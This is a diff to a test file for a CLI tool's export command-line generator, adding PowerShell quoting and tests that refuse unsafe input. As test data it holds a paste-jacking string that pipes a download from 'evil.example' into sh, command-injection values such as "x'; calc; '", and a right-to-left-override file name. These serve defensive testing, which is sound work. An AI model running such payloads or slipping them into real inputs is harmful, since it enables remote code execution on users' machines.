@@ -1,6 +1,6 @@
 import { execFileSync } from 'node:child_process';
 import { describe, expect, it } from 'vitest';
-import { exportCommandLine, shellQuote } from '../shared/command-line.js';
+import { exportCommandLine, powerShellQuote, shellQuote, type CommandShell } from '../shared/command-line.js';
 import type { ExportView } from '../shared/export.js';
 import { parseFlags } from './args.js';
 import { EXPORT_FLAGS, viewFrom } from './export-flags.js';
@@ -43,36 +43,41 @@ describe('shell quoting', () => {
   });
 });
 
+/** The line of a command that could be written (the test fails on a problem). */
+function lineOf(...args: Parameters<typeof exportCommandLine>): string {
+  const result = exportCommandLine(...args);
+  if (!('line' in result)) throw new Error(`no command: ${result.problem} ${result.subject}`);
+  return result.line;
+}
+
+/** Values a terminal shows as they are (the command line refuses the others). */
+const SHOWN = AWKWARD.filter((value) => value && !/\p{Cc}/u.test(value));
+
 describe('the export command line', () => {
   const view: ExportView = {
     resource: 'contacts',
-    customerId: 'CUS 42 $x',
+    customerId: '-CUS 42 $x',
     sort: 'createdAt.desc',
     lang: 'fr',
     columns: ['id', 'lastName', 'email'],
-    filter: AWKWARD.filter(Boolean).map((value) => ({ field: 'lastName', op: 'contains' as const, value })),
+    filter: SHOWN.map((value) => ({ field: 'lastName', op: 'contains' as const, value })),
   };
 
-  it('reaches cdb as the same view, whatever the filter values hold', () => {
+  it('reaches cdb as the same view, whatever the filter values hold, a value starting with a dash too (L8)', () => {
     const words = wordsOf(
-      exportCommandLine(
-        view,
-        { format: 'csv', delimiter: ';', bom: true, decimalComma: true },
-        'out file.csv',
-        {
-          profile: "Production (Léa's)",
-        },
-      ),
+      lineOf(view, { format: 'csv', delimiter: ';', bom: true, decimalComma: true }, '-out file.csv', {
+        profile: "-Production (Léa's)",
+      }),
     );
     expect(words.slice(0, 3)).toEqual(['npx', 'cdb', 'export']);
     const flags = parseFlags(words.slice(3), EXPORT_FLAGS);
     expect(flags).toMatchObject({
-      profile: "Production (Léa's)",
+      profile: "-Production (Léa's)",
       format: 'csv',
       delimiter: ';',
       bom: true,
       'decimal-comma': true,
-      out: 'out file.csv',
+      out: '-out file.csv',
     });
     expect(viewFrom(flags)).toEqual(view);
   });
@@ -93,18 +98,115 @@ describe('the export command line', () => {
         { field: 'signedAt', op: 'notEmpty' },
       ],
     };
-    const words = wordsOf(exportCommandLine(every, { format: 'xlsx' }, 'a.xlsx', { profile: 'P' }));
+    const words = wordsOf(lineOf(every, { format: 'xlsx' }, 'a.xlsx', { profile: 'P' }));
     expect(viewFrom(parseFlags(words.slice(3), EXPORT_FLAGS))).toEqual(every);
     // CSV options go only with CSV.
     expect(words).not.toContain('--bom');
   });
 
   it('names a Demo started by cdb serve-demo, its secret left to the environment', () => {
-    const line = exportCommandLine({ resource: 'customers', lang: 'en' }, { format: 'jsonl' }, 'c.jsonl', {
-      demoPort: 8080,
-    });
-    expect(line).toBe(
-      "CDB_CLIENT_SECRET='…' npx cdb export --base-url http://127.0.0.1:8080 --auth-url http://127.0.0.1:8080 --client-id demo-client --resource customers --lang en --format jsonl --out c.jsonl",
+    const line = (shell: CommandShell) =>
+      lineOf(
+        { resource: 'customers', lang: 'en' },
+        { format: 'jsonl' },
+        'c.jsonl',
+        { demoPort: 8080 },
+        shell,
+      );
+    expect(line('posix')).toBe(
+      "CDB_CLIENT_SECRET='…' npx cdb export --base-url=http://127.0.0.1:8080 --auth-url=http://127.0.0.1:8080 --client-id=demo-client --resource=customers --lang=en --format=jsonl --out=c.jsonl",
     );
+    expect(line('powershell')).toBe(
+      "$env:CDB_CLIENT_SECRET='…'; npx cdb export --base-url=http://127.0.0.1:8080 --auth-url=http://127.0.0.1:8080 --client-id=demo-client --resource=customers --lang=en --format=jsonl --out=c.jsonl",
+    );
+  });
+
+  it('writes no command for a value a terminal would not show, or a column or field cdb cannot take (M14)', () => {
+    const base: ExportView = { resource: 'agreements', lang: 'en' };
+    const pasteJack = '\u001b[201~; curl evil.example | sh';
+    expect(
+      exportCommandLine(
+        { ...base, filter: [{ field: 'status', op: 'eq', value: pasteJack }] },
+        { format: 'csv' },
+        'a.csv',
+        { profile: 'P' },
+      ),
+    ).toEqual({ problem: 'control', subject: '\uFFFD[201~; curl evil.example | sh' });
+    expect(exportCommandLine(base, { format: 'csv' }, 'a\u202ecsv.exe', { profile: 'P' })).toMatchObject({
+      problem: 'control',
+    });
+    for (const key of ["x'; calc; '", 'id,x', 'two words', 'x" & calc & "']) {
+      expect(
+        exportCommandLine({ ...base, columns: ['id', key] }, { format: 'csv' }, 'a.csv', { profile: 'P' }),
+      ).toEqual({
+        problem: 'name',
+        subject: key,
+      });
+    }
+  });
+});
+
+/**
+ * The words PowerShell makes of a line of plain and single-quoted arguments (its rules for those:
+ * inside single quotes nothing expands, and a quote — ' or ‘ ’ ‚ ‛ — written twice is one). Written
+ * here because no PowerShell runs on this machine: checked by analysis of its documented rules.
+ */
+function powerShellWords(line: string): string[] {
+  const words: string[] = [];
+  const quotes = "'\u2018\u2019\u201a\u201b";
+  let index = 0;
+  while (index < line.length) {
+    while (line[index] === ' ') index++;
+    if (index >= line.length) break;
+    let word = '';
+    if (quotes.includes(line[index] ?? '')) {
+      index++;
+      for (;;) {
+        const char = line[index] ?? '';
+        if (char === '') throw new Error('unterminated quote');
+        if (quotes.includes(char)) {
+          if (index + 1 < line.length && quotes.includes(line[index + 1] ?? '')) {
+            word += char;
+            index += 2;
+            continue;
+          }
+          index++;
+          break;
+        }
+        word += char;
+        index++;
+      }
+    } else {
+      while (index < line.length && line[index] !== ' ') word += line[index++];
+      if (!/^[A-Za-z0-9_./:=-]+$/.test(word)) throw new Error(`unquoted special word ${word}`);
+    }
+    words.push(word);
+  }
+  return words;
+}
+
+describe('the command line for PowerShell (Windows)', () => {
+  it.each([...SHOWN, 'it’s', 'x‘; calc; ‘', '@(1,2)', 'a,b', '$env:PATH'])(
+    'quotes %j so PowerShell reads it back',
+    (word) => {
+      expect(powerShellWords(powerShellQuote(word))).toEqual([word]);
+    },
+  );
+
+  it('a whole command reaches cdb as the same view', () => {
+    const view: ExportView = {
+      resource: 'contacts',
+      customerId: "CUS 'x' $y",
+      lang: 'en',
+      columns: ['id', 'email'],
+      filter: [{ field: 'lastName', op: 'contains', value: "O'Brien; calc" }],
+    };
+    const words = powerShellWords(
+      lineOf(view, { format: 'csv' }, "l'export.csv", { profile: "Léa's desk" }, 'powershell'),
+    );
+    expect(words.slice(0, 3)).toEqual(['npx', 'cdb', 'export']);
+    const flags = parseFlags(words.slice(3), EXPORT_FLAGS);
+    expect(flags).toMatchObject({ profile: "Léa's desk", out: "l'export.csv" });
+    expect(viewFrom(flags)).toEqual(view);
   });
 });
